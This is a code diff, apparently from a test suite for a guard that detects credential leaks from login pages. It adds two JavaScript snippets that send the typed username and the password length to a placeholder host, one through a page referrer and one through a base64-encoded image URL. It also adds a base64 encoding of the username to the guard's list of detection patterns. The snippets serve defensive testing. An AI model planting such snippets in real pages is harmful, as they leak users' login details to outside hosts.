@@ -202,6 +202,24 @@ const attacks: Attack[] = [
     type: 'PortalOriginRefused',
   },
   {
+    title: 'a referrer with the user in the address of the page',
+    pages: (there) => ({
+      '/': onType(
+        `history.replaceState(0, '', '/?user=' + document.forms[0].user.value); const i = new Image(); i.referrerPolicy = 'unsafe-url'; i.src = '${there}/x?' + p.length`,
+      ),
+      ...working,
+    }),
+  },
+  {
+    title: 'a picture with the user in base 64',
+    pages: (there) => ({
+      '/': onType(
+        `new Image().src = '${there}/x?d=' + btoa(JSON.stringify({ user: document.forms[0].user.value, n: p.length }))`,
+      ),
+      ...working,
+    }),
+  },
+  {
     title: 'a WebSocket',
     pages: (there) => ({
       '/': onSubmit(
@@ -304,6 +322,7 @@ const forms = [
   Buffer.from(`u:${password}`).toString('base64').slice(4, 14),
   Buffer.from(password).toString('hex'),
   user,
+  Buffer.from(user).toString('base64').slice(0, 12),
 ];
 
 /** What the guard is told of a login that the portal leads elsewhere with. */
